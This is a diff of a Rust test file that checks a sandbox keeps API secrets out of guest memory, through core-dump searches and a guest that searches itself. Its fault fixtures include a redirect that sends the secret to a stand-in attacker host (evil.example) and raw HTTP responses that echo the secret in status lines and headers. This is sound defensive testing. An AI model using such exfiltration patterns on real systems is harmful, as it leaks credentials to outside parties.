@@ -1,4 +1,4 @@
-//! 1. No byte of a secret ever enters guest memory.
+//! Invariant 1: no byte of a secret ever enters guest memory.
 //!
 //! The whole memory is searched, in both ways: from outside, in the core dump of a guest that trapped, and
 //! from inside, by a guest that searches itself.
@@ -27,7 +27,8 @@ played_by!(
 
 /// The ways in which a secret could come back, each by the app that is asked for it.
 fn faults(secret: &str) -> Vec<(&'static str, Fault)> {
-    let error = |echo: &str| Fault::json_body(StatusCode::BAD_REQUEST, json!({ "message": echo }).to_string());
+    let error =
+        |echo: &str| Fault::json_body(StatusCode::BAD_REQUEST, json!({ "message": echo }).to_string());
     let encoded = |wanted: &str| {
         let mut all = encodings(secret.as_bytes()).into_iter();
         let (_, echo) = all.find(|(name, _)| *name == wanted).expect("a known encoding");
@@ -45,7 +46,10 @@ fn faults(secret: &str) -> Vec<(&'static str, Fault)> {
         ("echo_in_json", encoded("in JSON escapes")),
         ("echo_in_half", Fault::echo_headers().with_header("content-length", "100000")),
         ("redirect", Fault::redirect(&format!("https://evil.example/?{secret}"))),
-        ("reason", Fault::wire(format!("HTTP/1.1 200 {secret}\r\nx: {secret}\r\ncontent-length: 2\r\n\r\n{{}}"))),
+        (
+            "reason",
+            Fault::wire(format!("HTTP/1.1 200 {secret}\r\nx: {secret}\r\ncontent-length: 2\r\n\r\n{{}}")),
+        ),
         ("no_http", Fault::wire(format!("{secret} {secret}\r\n\r\n"))),
     ]
 }
@@ -64,8 +68,9 @@ fn provoke(world: &World) -> (Grant, Vec<Value>) {
     for trick in ["search", "search_and_trap"] {
         grant = grant.own_action("hubspot", trick, actionbox_host::Effect::Write);
     }
-    // A search of every byte takes its time in an unoptimised guest.
-    let limits = Limits { cpu_time: Duration::from_secs(30), wall_time: Duration::from_secs(60), ..Limits::default() };
+    // A search of every byte for every needle takes its time.
+    let limits =
+        Limits { cpu_time: Duration::from_secs(30), wall_time: Duration::from_secs(60), ..Limits::default() };
     (grant.limits(limits).build().expect("a grant"), requests)
 }
 
@@ -95,7 +100,7 @@ async fn a_core_dump_holds_no_secret() {
         let dumps = dumps.lock().unwrap_or_else(PoisonError::into_inner).clone();
         let [dump] = dumps.as_slice() else { panic!("{how}: one dump, not {}", dumps.len()) };
         let memories = dump::memories(dump);
-        let holds = |text: &str| memories.iter().any(|memory| memchr(memory, text));
+        let holds = |text: &str| memories.iter().any(|memory| contains(memory, text));
         assert!(holds(&marker), "{how}: the memories are those of the guest");
         assert!(holds(&Sandbox::seeded_domain(ACCOUNT)), "{how}: what the guest did get is in them");
         let finder = world.finder();
@@ -106,8 +111,8 @@ async fn a_core_dump_holds_no_secret() {
     }
 }
 
-fn memchr(memory: &[u8], text: &str) -> bool {
-    memory.windows(text.len()).any(|window| window == text.as_bytes())
+fn contains(bytes: &[u8], text: &str) -> bool {
+    bytes.windows(text.len()).any(|window| window == text.as_bytes())
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -116,16 +121,21 @@ async fn a_guest_that_searches_itself_finds_no_secret() {
         let world = builder.start().await;
         let (grant, requests) = provoke(&world);
         let marker = canary::secret();
-        let mut needles = vec![("the marker", marker.into_bytes()), ("what it got", Sandbox::seeded_domain(ACCOUNT).into())];
+        let mut needles = vec![
+            ("the marker", marker.into_bytes()),
+            ("what it got", Sandbox::seeded_domain(ACCOUNT).into()),
+        ];
         for secret in [&world.key, &world.secret()] {
             let secret = secret.as_bytes();
             // The beginning of all keys, and of all tokens, is no secret.
-            for part in [secret, &secret[secret.len() - 24..secret.len() - 12], &secret[secret.len() - 12..]] {
+            for part in [secret, &secret[secret.len() - 24..secret.len() - 12], &secret[secret.len() - 12..]]
+            {
                 needles.extend(encodings(part));
             }
         }
         // Masked, so that the search itself does not bring them into memory.
-        let masked = |needle: &[u8]| needle.iter().map(|byte| format!("{:02x}", byte ^ 0x5a)).collect::<String>();
+        let masked =
+            |needle: &[u8]| needle.iter().map(|byte| format!("{:02x}", byte ^ 0x5a)).collect::<String>();
         let hex: Vec<_> = needles.iter().map(|(_, needle)| masked(needle)).collect();
         let options = json!({ "requests": requests, "needles": hex, "planted": 0 });
         let report = world.play_under(&grant, "search", options).await.expect("a report");
@@ -135,7 +145,9 @@ async fn a_guest_that_searches_itself_finds_no_secret() {
         assert_eq!(found.len(), needles.len());
         for ((encoding, needle), found) in needles.iter().zip(found) {
             match *encoding {
-                "the marker" | "what it got" => assert_ne!(found, Some(0), "{how}: the search finds {encoding}"),
+                "the marker" | "what it got" => {
+                    assert_ne!(found, Some(0), "{how}: the search finds {encoding}")
+                }
                 _ => assert_eq!(found, Some(0), "{how}: {}, {encoding}", needle.escape_ascii()),
             }
         }
@@ -158,8 +170,11 @@ async fn the_request_that_a_guest_keeps_gains_no_header() {
         assert_eq!(report["late"], false, "{how}: what is sent cannot be changed any more");
         let received = world.sandbox.requests();
         let secret = world.secret();
-        let carries = |(_, value): &(String, Vec<u8>)| memchr(value, &secret);
-        assert!(received.iter().any(|request| request.headers.iter().any(carries)), "{how}: it did leave with it");
+        let carries = |(_, value): &(String, Vec<u8>)| contains(value, &secret);
+        assert!(
+            received.iter().any(|request| request.headers.iter().any(carries)),
+            "{how}: it did leave with it"
+        );
     }
 }
 
